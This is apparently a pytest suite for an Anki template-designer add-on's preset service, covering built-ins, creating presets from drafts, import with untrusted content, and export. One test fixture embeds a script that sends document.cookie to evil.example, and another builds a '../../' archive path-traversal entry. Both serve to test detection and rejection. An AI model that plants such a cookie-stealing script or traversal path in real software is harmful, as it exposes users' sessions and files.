"""PresetService end to end on real folders and a real collection: the gallery and the
user's presets together, creating from a draft, import with untrusted content, export."""

import json

import pytest

from anki_template_designer.services.presets import (
    DuplicateName,
    PresetError,
    PresetFileError,
    PresetNotFound,
    PresetService,
    ReadOnlyPreset,
)
from anki_template_designer.services.presets import create as build
from anki_template_designer.services.presets.archive import media_entries
from anki_template_designer.services.templates import parse_template
from preset_helpers import BASIC_LIKE, design_preset, valid_json, zip_bytes

HOSTILE = (
    '<div class="q">{{Front}}</div><script>fetch("https://evil.example/?"+document.cookie)</script>'
)


def user_files(presets_dir):
    return (
        sorted(p.name for p in presets_dir.iterdir() if p.name != ".lock")
        if presets_dir.exists()
        else []
    )


def test_builtins_come_first_and_are_read_only(service):
    listed = service.list_presets()
    assert listed.presets[0].preset.id == "builtin-basic"
    assert listed.to_json()["presets"][0]["builtin"] is True
    designs = service.list_presets("design").presets
    assert {s.preset.kind for s in designs} == {"design"}
    with pytest.raises(ReadOnlyPreset, match="duplicate it"):
        service.rename("builtin-basic", "builtin", "Mine")
    with pytest.raises(ReadOnlyPreset):
        service.delete("builtin-basic", "builtin")
    with pytest.raises(DuplicateName, match="built-in"):
        service.create(design_preset("Basic"))


def test_duplicate_a_builtin_then_change_the_copy(service):
    copy = service.duplicate("builtin-basic")
    assert copy.preset.name == "Basic (copy)"
    assert copy.preset.body == service.get("builtin-basic").preset.body
    assert service.duplicate("builtin-basic").preset.name == "Basic (copy) (2)"
    renamed = service.rename(copy.preset.id, copy.etag, "  My   basic ")
    assert renamed.preset.name == "My basic"
    with pytest.raises(DuplicateName):
        service.duplicate(copy.preset.id, "my BASIC")
    assert [s.preset.name for s in service.list_presets().presets if not s.preset.builtin] == [
        "Basic (copy) (2)",
        "My basic",
    ]


def test_create_from_the_current_design_and_update_it(service, col):
    basic = col.models.by_name("Basic (type in the answer)")
    stored = service.create(build.design_from_notetype("Typed", basic, "from my collection"))
    preset = stored.preset
    assert preset.fields == ("Front", "Back")
    assert preset.design.card_types[0].front == basic["tmpls"][0]["qfmt"]
    basic["css"] += "\n.extra { margin: 0; }"
    updated = service.replace_content(
        preset.id, stored.etag, build.design_from_notetype("x", basic)
    )
    assert updated.preset.name == "Typed"  # the name stays
    assert updated.preset.description == "from my collection"
    assert updated.preset.design.css.endswith(".extra { margin: 0; }")
    with pytest.raises(PresetError, match="cannot take a theme"):
        service.replace_content(
            preset.id,
            updated.etag,
            build.theme_from_vars("t", {"--atd-fg": "#000", "--atd-bg": "#fff"}, {}),
        )


def test_a_snippet_from_a_selection(service):
    notetype = {
        **BASIC_LIKE,
        "css": ".card { color: black; }\n.hint { font-size: 0.8em; }\n.other { margin: 0; }\n",
        "tmpls": [
            {
                "name": "Forward",
                "qfmt": '<h1>{{Question}}</h1>\n<div class="hint">{{hint:Notes}}</div>\n<p>end</p>',
                "afmt": "{{Answer}}",
            }
        ],
    }
    document = parse_template(notetype["tmpls"][0]["qfmt"])
    ids = [n.id for n in document.children if n.raw.startswith("<div")]
    stored = service.create(build.snippet_from_selection("Hint", notetype, 0, "front", ids))
    assert stored.preset.snippet.template == '<div class="hint">{{hint:Notes}}</div>'
    assert stored.preset.snippet.css == ".hint { font-size: 0.8em; }"
    assert stored.preset.fields == ("Notes",)
    # a selection that cuts a component in half is refused
    h1 = document.children[0]
    inner = h1.children[0]
    with pytest.raises(PresetError, match="cuts a component in half"):
        build.snippet_from_selection("x", notetype, 0, "front", [inner.id, ids[0]])
    with pytest.raises(PresetError, match="out of date"):
        build.snippet_from_selection("x", notetype, 0, "front", ["99"])


def test_a_theme_from_the_current_css(service, col):
    basic = col.models.by_name("Basic")
    with pytest.raises(PresetError, match="sets no --atd-\\* variables"):
        build.theme_from_notetype("T", basic)
    designed = service.apply("builtin-minimal", basic).draft
    theme = service.create(build.theme_from_notetype("From minimal", designed)).preset.theme
    minimal = service.get("builtin-minimal").preset.design.css
    assert theme.light["--atd-bg"] == "#fdfcfa" and theme.night["--atd-bg"] == "#1b1b1d"
    assert "--atd-bg: #fdfcfa;" in minimal


def test_mapping_and_apply_through_the_service(service):
    mapping = service.mapping("builtin-basic", BASIC_LIKE)
    assert mapping.targets() == {"Front": "Question", "Back": "Answer"}
    chosen = service.mapping("builtin-basic", BASIC_LIKE, {"Back": "Notes"})
    assert chosen.targets()["Back"] == "Notes"
    with pytest.raises(PresetError, match="no field called 'Nope'"):
        service.mapping("builtin-basic", BASIC_LIKE, {"Back": "Nope"})
    result = service.apply("builtin-basic", BASIC_LIKE, {"Back": "Notes"})
    assert "{{Notes}}" in result.draft["tmpls"][0]["afmt"]
    with pytest.raises(PresetNotFound):
        service.apply("f" * 32, BASIC_LIKE)


def write(tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data if isinstance(data, bytes) else json.dumps(data).encode())
    return path


def hostile_json():
    data = valid_json(name="Hostile")
    data["design"]["cardTypes"][0]["front"] = HOSTILE
    return data


def test_import_without_findings_is_stored_under_a_free_name(service, tmp_path, presets_dir):
    service.create(design_preset("Sample design"))
    stored = service.import_file(write(tmp_path, "a.atdpreset", valid_json()))
    assert stored.preset.name == "Sample design (2)"
    assert stored.preset.id != valid_json()["id"]  # a fresh id, never the file's
    assert len(user_files(presets_dir)) == 2


def test_import_reports_untrusted_content_and_waits_for_a_decision(service, tmp_path, presets_dir):
    path = write(tmp_path, "h.atdpreset", hostile_json())
    plan = service.inspect_import(path)
    assert [f["kind"] for f in plan.to_json()["findings"]] == ["script"]
    assert plan.to_json()["findings"][0]["path"] == "/design/cardTypes/0/front"
    assert user_files(presets_dir) == []  # inspecting writes nothing
    with pytest.raises(PresetError, match="strip them or keep them"):
        service.commit_import(plan.token)
    stripped = service.commit_import(plan.token, "strip")
    assert stripped.preset.design.card_types[0].front == '<div class="q">{{Front}}</div>'
    with pytest.raises(PresetNotFound, match="no longer pending"):
        service.commit_import(plan.token, "strip")
    kept = service.import_file(path, "keep")
    assert kept.preset.design.card_types[0].front == HOSTILE
    assert kept.preset.name == "Hostile (2)"


def test_a_bad_import_writes_nothing(service, tmp_path, presets_dir):
    good_media = {"_font.woff2": b"font"}
    data = valid_json()
    data["media"] = [m.to_json() for m in media_entries(good_media)]
    bad = zip_bytes({"preset.json": json.dumps(data).encode(), "media/../../_font.woff2": b"font"})
    with pytest.raises(PresetFileError, match="leaves the archive"):
        service.inspect_import(write(tmp_path, "bad.atdpreset", bad))
    truncated = write(tmp_path, "t.atdpreset", json.dumps(valid_json()).encode()[:-3])
    with pytest.raises(PresetFileError, match="truncated"):
        service.import_file(truncated, "strip")
    assert user_files(presets_dir) == []


def test_export_and_import_round_trip_with_media_into_the_collection(service, tmp_path, col):
    media = {"_font.woff2": b"wOF2 font data"}
    preset = design_preset("With font", media=media_entries(media))
    stored = service.store.create(preset, media)
    out = tmp_path / "With font.atdpreset"
    result = service.export(stored.preset.id, out)
    assert result["format"] == "zip" and result["bytes"] == out.stat().st_size
    other = PresetService.open(tmp_path / "elsewhere", collection=lambda: col)
    imported = other.import_file(out)
    assert other.media(imported.preset.id) == media
    assert other.install_media(imported.preset.id) == ["_font.woff2"]
    assert other.install_media(imported.preset.id) == []  # already there, same bytes
    assert (tmp_path / "collection.media" / "_font.woff2").read_bytes() == media["_font.woff2"]
    applied = other.apply(imported.preset.id, BASIC_LIKE)
    assert applied.media == ["_font.woff2"]


def test_export_of_a_builtin_is_plain_json(service, tmp_path):
    out = tmp_path / "Basic.atdpreset"
    assert service.export("builtin-basic", out)["format"] == "json"
    assert json.loads(out.read_text(encoding="utf-8"))["id"] == "builtin-basic"
    again = service.import_file(out)
    assert again.preset.name == "Basic (2)" and not again.preset.builtin


def test_pending_imports_are_bounded(service, tmp_path):
    path = write(tmp_path, "a.atdpreset", valid_json())
    tokens = [service.inspect_import(path).token for _ in range(10)]
    with pytest.raises(PresetNotFound):
        service.commit_import(tokens[0])
    assert service.commit_import(tokens[-1]).preset.name == "Sample design"


def test_the_service_registers_and_pings_like_the_others(presets_dir, col, tmp_path):
    from anki_template_designer.services.registry import Registry

    registry = Registry()
    registry.register_factory(
        PresetService,
        lambda _r: PresetService.open(presets_dir, collection=lambda: col),
        check=PresetService.check,
    )
    assert [r.ok for r in registry.ping()] == [True]
    assert (presets_dir / ".lock").exists()
    blocked = tmp_path / "file-not-folder"
    blocked.write_text("x")
    broken = Registry()
    broken.register_factory(
        PresetService, lambda _r: PresetService.open(blocked / "presets"), check=PresetService.check
    )
    [result] = broken.ping()
    assert result.ok is False and result.error
